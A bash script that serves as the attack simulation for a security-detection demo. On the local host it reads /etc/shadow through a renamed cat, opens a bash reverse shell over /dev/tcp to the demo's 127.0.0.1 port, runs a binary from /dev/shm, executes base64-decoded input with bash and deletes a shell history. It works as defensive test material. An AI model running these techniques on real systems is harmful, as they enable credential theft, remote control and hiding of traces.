#!/usr/bin/env bash
#
# The attack simulation of the demo. Everything here really happens on this host, and none of it does harm: it reads
# and runs copies of its own in directories of its own, talks to nobody but the demo, and cleans up.
#
#   simulation.sh DIRECTORY PORT    a new directory to work in, and a port of the demo's on 127.0.0.1
#
# Each line that it prints says what comes next.

set -u
work=$1
port=$2
shm=
unset HISTFILE
trap 'rm -rf "$work" "$shm"' EXIT
cd "$work" || exit 1

step() {
  echo "$1"
  sleep 0.7
}

step "reads /etc/shadow with a renamed copy of cat"
cp "$(command -v cat)" notes
./notes /etc/shadow >/dev/null 2>&1

step "gives a shell to 127.0.0.1:$port, where the demo listens (reverse shell)"
setsid bash -c "bash --norc --noprofile -i >&/dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null

step "runs a program from /dev/shm"
if shm=$(mktemp -d /dev/shm/sysflow-demo.XXXXXX); then
  cp "$(command -v id)" "$shm/kworker"
  "$shm/kworker" >/dev/null 2>&1
fi

step "runs what comes out of base64"
bash -c "echo ZWNobyBub3RoaW5nIHRvIHNlZQ== | base64 -d | bash" >/dev/null

step "deletes a shell history (one of its own)"
mkdir -p home
echo 'secret command' >home/.bash_history
rm -f home/.bash_history
